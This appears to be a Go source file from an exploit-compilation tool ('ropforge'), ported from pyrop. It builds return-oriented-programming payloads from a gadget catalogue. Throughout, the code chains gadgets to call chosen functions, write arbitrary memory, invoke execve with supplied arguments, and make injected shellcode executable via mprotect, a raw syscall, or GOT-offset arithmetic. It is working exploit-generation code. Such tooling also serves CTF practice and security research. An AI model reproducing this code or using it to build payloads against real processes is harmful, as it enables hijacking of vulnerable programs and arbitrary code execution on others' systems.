// Package scheduler synthesises, from a list of goals and a gadget
// catalogue, the final byte payload that drives the target process through
// those goals in order.
//
// Grounded on pyrop/rop_compiler/scheduler.py's Scheduler: the
// writable-memory bump allocator, the write-memory triple cache, and the
// four goal-chain builders (create_function_chain,
// create_shellcode_address_chain, create_shellcode_chain,
// create_write_memory_chain) are all ported here, generalised to the typed
// gadget algebra. Catalogue queries always prefer the lowest complexity,
// and argument registers are set one at a time, each later gadget barred
// from clobbering the registers already chosen.
package scheduler

import (
	"errors"
	"fmt"
	"sort"

	"ropforge/internal/logging"
	"ropforge/internal/rop/arch"
	"ropforge/internal/rop/catalogue"
	"ropforge/internal/rop/emit"
	"ropforge/internal/rop/gadget"
	"ropforge/internal/rop/goalspec"
	"ropforge/internal/rop/regset"
	"ropforge/internal/rop/symbol"
)

// Error kinds raised during scheduling (spec.md §7); all are fatal and
// abort compilation of the current goal list.
var (
	ErrSymbolNotFound        = errors.New("scheduler: symbol not found")
	ErrNoGadgetForRegister   = errors.New("scheduler: no gadget to set register")
	ErrNoWriteMemoryStrategy = errors.New("scheduler: no write-memory strategy")
	ErrNoShellcodeStrategy   = errors.New("scheduler: no shellcode-address strategy")
	ErrUnknownGoal           = errors.New("scheduler: unknown goal")
)

// sentinelNextAddress is the placeholder "return address" for the last
// goal in the list — there is nothing further to jump to, so the final
// gadget's own ret simply consumes this marker (spec.md §8 scenario 5).
const sentinelNextAddress = 0x4444444444444444

// fillerByte is the default stack-filler for bytes the chain doesn't care
// about (spec.md §4.4); shellcode writes use 0x00 instead (spec.md §4.4
// "Shellcode chain").
const fillerByte = 0x4B

// Scheduler turns goals into a payload against one catalogue of classified
// gadgets. The writable-memory bump allocator and write-memory triple
// cache live on the instance, not in any package-level global (spec.md §9).
type Scheduler struct {
	Arch     *arch.Arch
	Cat      *catalogue.Catalogue
	Resolver *symbol.Resolver
	Log      *logging.Logger

	allocNext    uint64
	writeTriples []writeTriple
	triplesBuilt bool
}

// New builds a Scheduler whose bump allocator starts at writableBase (the
// Binary Reader's reported writable region).
func New(a *arch.Arch, cat *catalogue.Catalogue, resolver *symbol.Resolver, writableBase uint64, log *logging.Logger) *Scheduler {
	return &Scheduler{Arch: a, Cat: cat, Resolver: resolver, allocNext: writableBase, Log: log}
}

// alloc rounds n up to word alignment and leaves one extra word as a
// separator, so consecutive allocations never overlap (spec.md §4.4).
func (s *Scheduler) alloc(n int) uint64 {
	wb := s.Arch.WordBytes()
	aligned := ((n + wb - 1) / wb) * wb
	addr := s.allocNext
	s.allocNext += uint64(aligned + wb)
	return addr
}

func fillerWord(wordBytes int) uint64 {
	var v uint64
	for i := 0; i < wordBytes; i++ {
		v = v<<8 | fillerByte
	}
	return v
}

// Compile turns goals into the final payload: goals are consumed in
// reverse order, each assuming the "return address" after it is the
// first-gadget address of the already-compiled suffix (spec.md §4.4). The
// returned address is that of the very first gadget, also the payload's
// leading packed word.
func (s *Scheduler) Compile(goals []goalspec.Goal) ([]byte, uint64, error) {
	next := uint64(sentinelNextAddress)
	var words []uint64
	for i := len(goals) - 1; i >= 0; i-- {
		w, firstAddr, err := s.compileGoal(goals[i], next)
		if err != nil {
			return nil, 0, fmt.Errorf("goal %d: %w", i, err)
		}
		words = append(w, words...)
		next = firstAddr
	}
	firstGadgetAddress := next
	full := append([]uint64{firstGadgetAddress}, words...)
	return emit.Words(s.Arch, full), firstGadgetAddress, nil
}

func (s *Scheduler) compileGoal(g goalspec.Goal, next uint64) ([]uint64, uint64, error) {
	switch g.Tag {
	case goalspec.FunctionGoal:
		return s.compileFunctionGoal(g, next)
	case goalspec.ShellcodeGoal:
		return s.compileShellcodeGoal(g, next)
	case goalspec.ShellcodeAddressGoal:
		return s.shellcodeAddressChain(g.ShellcodeAddress, next)
	case goalspec.ExecveGoal:
		return s.compileExecveGoal(g, next)
	default:
		return nil, 0, fmt.Errorf("%w: %s", ErrUnknownGoal, g.Tag)
	}
}

func (s *Scheduler) resolveGoalAddress(name string, address uint64, hasAddress bool) (uint64, error) {
	if hasAddress {
		return address, nil
	}
	addr, err := s.Resolver.Resolve(name)
	if err != nil {
		return 0, fmt.Errorf("%w: %s", ErrSymbolNotFound, name)
	}
	return addr, nil
}

// chainSequence links seq[0]->seq[1]->...->seq[last]->terminal, emitting
// each gadget's own Chain fragment, and returns the concatenated words plus
// the address of the first gadget (or terminal if seq is empty).
func chainSequence(wb int, filler uint64, seq []*gadget.Gadget, values []uint64, hasValues []bool, terminal uint64) ([]uint64, uint64) {
	if len(seq) == 0 {
		return nil, terminal
	}
	next := terminal
	var words []uint64
	for i := len(seq) - 1; i >= 0; i-- {
		w := seq[i].Chain(wb, filler, next, values[i], hasValues[i])
		words = append(w, words...)
		next = seq[i].Address
	}
	return words, seq[0].Address
}

// compileFunctionGoal implements spec.md §4.4's "Chain for FunctionGoal".
func (s *Scheduler) compileFunctionGoal(g goalspec.Goal, next uint64) ([]uint64, uint64, error) {
	funcAddr, err := s.resolveGoalAddress(g.Name, g.Address, g.HasAddress)
	if err != nil {
		return nil, 0, err
	}

	wb := s.Arch.WordBytes()
	filler := fillerWord(wb)

	type stringWrite struct {
		addr uint64
		data []byte
	}
	var strings []stringWrite

	cc := s.Arch.CallingConvention
	var chosen regset.Set
	var seq []*gadget.Gadget
	var values []uint64
	var hasValues []bool
	var stackArgs []uint64

	for i, arg := range g.Arguments {
		var value uint64
		if arg.IsString {
			addr := s.alloc(len(arg.Bytes) + 1)
			data := append(append([]byte{}, arg.Bytes...), 0)
			strings = append(strings, stringWrite{addr: addr, data: data})
			value = addr
		} else {
			value = emit.WrapSigned(s.Arch, arg.Int)
		}

		if i >= len(cc) {
			stackArgs = append(stackArgs, value)
			continue
		}
		reg := cc[i]
		switch {
		case s.Cat.FindLoadStack(s.Arch.SP, reg, chosen) != nil:
			lm := s.Cat.FindLoadStack(s.Arch.SP, reg, chosen)
			seq = append(seq, lm)
			values = append(values, value)
			hasValues = append(hasValues, true)
		case !arg.IsString && s.Cat.FindLoadConst(reg, arg.Int, chosen) != nil:
			lc := s.Cat.FindLoadConst(reg, arg.Int, chosen)
			seq = append(seq, lc)
			values = append(values, 0)
			hasValues = append(hasValues, false)
		default:
			return nil, 0, fmt.Errorf("%w: %s for goal %s", ErrNoGadgetForRegister, s.Arch.RegisterName(reg), g.Name)
		}
		chosen = chosen.Add(reg)
	}

	var lrGadget *gadget.Gadget
	if s.Arch.HasLR {
		lrGadget = s.Cat.FindLoadStack(s.Arch.SP, s.Arch.LR, chosen)
		if lrGadget == nil {
			return nil, 0, fmt.Errorf("%w: link register for goal %s", ErrNoGadgetForRegister, g.Name)
		}
	}

	var words []uint64
	var firstAddr uint64
	if lrGadget != nil {
		fullSeq := append(append([]*gadget.Gadget{}, seq...), lrGadget)
		fullValues := append(append([]uint64{}, values...), next)
		fullHasValues := append(append([]bool{}, hasValues...), true)
		words, firstAddr = chainSequence(wb, filler, fullSeq, fullValues, fullHasValues, funcAddr)
	} else {
		words, firstAddr = chainSequence(wb, filler, seq, values, hasValues, funcAddr)
		words = append(words, next)
	}
	words = append(words, stackArgs...)

	for i := len(strings) - 1; i >= 0; i-- {
		sw := strings[i]
		w, first, err := s.writeMemoryChain(sw.addr, sw.data, firstAddr, fillerByte, 0)
		if err != nil {
			return nil, 0, err
		}
		words = append(w, words...)
		firstAddr = first
	}

	return words, firstAddr, nil
}

func (s *Scheduler) compileShellcodeGoal(g goalspec.Goal, next uint64) ([]uint64, uint64, error) {
	addr := s.alloc(len(g.Bytes))
	chainWords, chainFirst, err := s.shellcodeAddressChain(addr, next)
	if err != nil {
		return nil, 0, err
	}
	writeWords, writeFirst, err := s.writeMemoryChain(addr, g.Bytes, chainFirst, 0x00, 0)
	if err != nil {
		return nil, 0, err
	}
	return append(writeWords, chainWords...), writeFirst, nil
}

func (s *Scheduler) compileExecveGoal(g goalspec.Goal, next uint64) ([]uint64, uint64, error) {
	wb := s.Arch.WordBytes()

	funcAddr, err := s.resolveGoalAddress(g.Name, g.Address, g.HasAddress)
	if err != nil {
		return nil, 0, err
	}

	var argAddrs []uint64
	for _, str := range g.ArgvStrings {
		argAddrs = append(argAddrs, s.alloc(len(str)+1))
	}
	argvArray := s.alloc((len(argAddrs) + 1) * wb)

	var argv0 int64
	if len(argAddrs) > 0 {
		argv0 = int64(argAddrs[0])
	}
	callArgs := []goalspec.Argument{{Int: argv0}, {Int: int64(argvArray)}, {Int: 0}}
	callWords, callFirst, err := s.compileFunctionGoal(goalspec.Goal{
		Tag: goalspec.FunctionGoal, Name: g.Name, Address: funcAddr, HasAddress: true, Arguments: callArgs,
	}, next)
	if err != nil {
		return nil, 0, err
	}

	words := callWords
	cur := callFirst

	tableBytes := make([]byte, 0, (len(argAddrs)+1)*wb)
	for _, a := range argAddrs {
		tableBytes = append(tableBytes, emit.Word(s.Arch, a)...)
	}
	tableBytes = append(tableBytes, emit.Word(s.Arch, 0)...)

	tableWords, tableFirst, err := s.writeMemoryChain(argvArray, tableBytes, cur, fillerByte, 0)
	if err != nil {
		return nil, 0, err
	}
	words = append(tableWords, words...)
	cur = tableFirst

	for i := len(argAddrs) - 1; i >= 0; i-- {
		data := append([]byte(g.ArgvStrings[i]), 0)
		w, first, err := s.writeMemoryChain(argAddrs[i], data, cur, fillerByte, 0)
		if err != nil {
			return nil, 0, err
		}
		words = append(w, words...)
		cur = first
	}
	return words, cur, nil
}

// shellcodeAddressChain fixes up memory permissions at addr and transfers
// control there, per spec.md §4.4's three fallback strategies.
func (s *Scheduler) shellcodeAddressChain(addr uint64, next uint64) ([]uint64, uint64, error) {
	const pageMask = ^uint64(0xFFF)

	if mprotectAddr, err := s.Resolver.Resolve("mprotect"); err == nil {
		return s.compileFunctionGoal(goalspec.Goal{
			Tag: goalspec.FunctionGoal, Name: "mprotect", Address: mprotectAddr, HasAddress: true,
			Arguments: []goalspec.Argument{{Int: int64(addr & pageMask)}, {Int: 0x1000}, {Int: 7}},
		}, addr)
	}
	if syscallAddr, err := s.Resolver.Resolve("syscall"); err == nil && s.Arch.HasMprotectSyscall {
		return s.compileFunctionGoal(goalspec.Goal{
			Tag: goalspec.FunctionGoal, Name: "syscall", Address: syscallAddr, HasAddress: true,
			Arguments: []goalspec.Argument{
				{Int: s.Arch.MprotectSyscallNumber}, {Int: int64(addr & pageMask)}, {Int: 0x1000}, {Int: 7},
			},
		}, addr)
	}
	return s.readAddJumpChain(addr, addr)
}

// readAddJumpChain implements the GOT-based fallback: find an imported
// function whose libc offset to mprotect is known, compute
// mprotect = mem[got_slot] + offset at runtime, then jump to it.
func (s *Scheduler) readAddJumpChain(targetAddr, next uint64) ([]uint64, uint64, error) {
	probes := []string{"printf", "puts", "read", "open", "close", "exit"}
	for _, probe := range probes {
		got, ok := s.Resolver.GOTEntry(probe)
		if !ok {
			continue
		}
		offset, ok := s.Resolver.LibcOffset(probe, "mprotect", "default")
		if !ok {
			continue
		}
		if words, firstAddr, err := s.buildReadAddJump(got, offset, targetAddr, next); err == nil {
			return words, firstAddr, nil
		}
	}
	return nil, 0, ErrNoShellcodeStrategy
}

func (s *Scheduler) buildReadAddJump(gotAddr uint64, offset int64, targetAddr, next uint64) ([]uint64, uint64, error) {
	const pageMask = ^uint64(0xFFF)
	wb := s.Arch.WordBytes()
	filler := fillerWord(wb)

	regs := s.Arch.AllRegisters()
	for _, base := range regs {
		for _, acc := range regs {
			if base == acc {
				continue
			}
			baseLoad := s.Cat.FindLoadConst(base, int64(gotAddr), 0)
			if baseLoad == nil {
				continue
			}
			readGadget := s.Cat.Find(gadget.LoadMem, catalogue.Filter{&base}, &acc, 0)
			if readGadget == nil || len(readGadget.Params) != 1 || readGadget.Params[0] != 0 {
				continue
			}
			offsetReg := pickOffsetRegister(regs, base, acc)
			if offsetReg == nil {
				continue
			}
			offsetLoad := s.Cat.FindLoadConst(*offsetReg, offset, 0)
			if offsetLoad == nil {
				continue
			}
			addGadget := s.Cat.Find(gadget.AddReg, catalogue.Filter{&acc, offsetReg}, &acc, 0)
			if addGadget == nil {
				continue
			}
			jumpGadget := s.Cat.Find(gadget.Jump, catalogue.Filter{&acc}, nil, 0)
			if jumpGadget == nil {
				continue
			}

			chosen := regset.Of(base, acc, *offsetReg)
			argSeq, argValues, argHasValues, ok := s.mprotectArgSequence(targetAddr&pageMask, chosen)
			if !ok {
				continue
			}

			seq := append(append([]*gadget.Gadget{}, argSeq...), baseLoad, readGadget, offsetLoad, addGadget)
			values := append(append([]uint64{}, argValues...), gotAddr, 0, emit.WrapSigned(s.Arch, offset), 0)
			hasValues := append(append([]bool{}, argHasValues...), false, false, false, false)

			words, firstAddr := chainSequence(wb, filler, seq, values, hasValues, jumpGadget.Address)
			words = append(words, jumpGadget.Chain(wb, filler, 0, 0, false)...)
			words = append(words, next)
			return words, firstAddr, nil
		}
	}
	return nil, 0, ErrNoShellcodeStrategy
}

// mprotectArgSequence builds the register-argument chain for calling
// mprotect(pageAddr, 0x1000, 7) without going through compileFunctionGoal,
// since the registers used by the GOT-read sequence (chosen) must stay
// untouched.
func (s *Scheduler) mprotectArgSequence(pageAddr uint64, chosen regset.Set) ([]*gadget.Gadget, []uint64, []bool, bool) {
	args := []int64{int64(pageAddr), 0x1000, 7}
	cc := s.Arch.CallingConvention
	if len(cc) < len(args) {
		return nil, nil, nil, false
	}
	var seq []*gadget.Gadget
	var values []uint64
	var hasValues []bool
	for i, a := range args {
		reg := cc[i]
		lc := s.Cat.FindLoadConst(reg, a, chosen)
		if lc == nil {
			return nil, nil, nil, false
		}
		seq = append(seq, lc)
		values = append(values, 0)
		hasValues = append(hasValues, false)
		chosen = chosen.Add(reg)
	}
	return seq, values, hasValues, true
}

func pickOffsetRegister(regs []regset.ID, avoid ...regset.ID) *regset.ID {
	for i := range regs {
		r := regs[i]
		clash := false
		for _, a := range avoid {
			if r == a {
				clash = true
				break
			}
		}
		if !clash {
			return &regs[i]
		}
	}
	return nil
}

// writeTriple is one cached (set-address-register, set-value-register,
// store) sequence used to write one word to arbitrary memory.
type writeTriple struct {
	setAddr, setVal, store *gadget.Gadget
	complexity             int
}

func (s *Scheduler) buildWriteTriples() {
	if s.triplesBuilt {
		return
	}
	var triples []writeTriple
	regs := s.Arch.AllRegisters()
	for _, addrReg := range regs {
		for _, valReg := range regs {
			if addrReg == valReg {
				continue
			}
			setAddr := s.Cat.FindLoadStack(s.Arch.SP, addrReg, 0)
			if setAddr == nil {
				continue
			}
			setVal := s.Cat.FindLoadStack(s.Arch.SP, valReg, regset.Of(addrReg))
			if setVal == nil {
				continue
			}
			ar, vr := addrReg, valReg
			store := s.Cat.Find(gadget.StoreMem, catalogue.Filter{&ar, &vr}, nil, 0)
			if store == nil {
				continue
			}
			triples = append(triples, writeTriple{
				setAddr: setAddr, setVal: setVal, store: store,
				complexity: setAddr.Complexity() + setVal.Complexity() + store.Complexity(),
			})
		}
	}
	sort.Slice(triples, func(i, j int) bool { return triples[i].complexity < triples[j].complexity })
	s.writeTriples = triples
	s.triplesBuilt = true
}

func (s *Scheduler) pickWriteTriple(noClobber regset.Set) (*writeTriple, error) {
	s.buildWriteTriples()
	for i := range s.writeTriples {
		t := &s.writeTriples[i]
		if t.setAddr.Clobbers.Intersects(noClobber) || t.setVal.Clobbers.Intersects(noClobber) || t.store.Clobbers.Intersects(noClobber) {
			continue
		}
		return t, nil
	}
	return nil, ErrNoWriteMemoryStrategy
}

// writeMemoryChain writes data (padded with padByte to a word multiple)
// into targetAddr one word at a time, using the cheapest write-memory
// triple that avoids noClobber, chaining the whole sequence into
// chainNext (spec.md §4.4 "Write-memory chain").
func (s *Scheduler) writeMemoryChain(targetAddr uint64, data []byte, chainNext uint64, padByte byte, noClobber regset.Set) ([]uint64, uint64, error) {
	wb := s.Arch.WordBytes()
	padded := append([]byte{}, data...)
	for len(padded)%wb != 0 {
		padded = append(padded, padByte)
	}
	if len(padded) == 0 {
		return nil, chainNext, nil
	}

	triple, err := s.pickWriteTriple(noClobber)
	if err != nil {
		return nil, 0, err
	}
	filler := fillerWord(wb)

	n := len(padded) / wb
	next := chainNext
	var words []uint64
	for i := n - 1; i >= 0; i-- {
		chunk := padded[i*wb : (i+1)*wb]
		var value uint64
		if wb == 8 {
			value = s.Arch.ByteOrder.Uint64(chunk)
		} else {
			value = uint64(s.Arch.ByteOrder.Uint32(chunk))
		}
		addr := targetAddr + uint64(i*wb)

		storeWords := triple.store.Chain(wb, filler, next, 0, false)
		setValWords := triple.setVal.Chain(wb, filler, triple.store.Address, value, true)
		setAddrWords := triple.setAddr.Chain(wb, filler, triple.setVal.Address, addr, true)

		group := append(append(append([]uint64{}, setAddrWords...), setValWords...), storeWords...)
		words = append(group, words...)
		next = triple.setAddr.Address
	}
	return words, next, nil
}
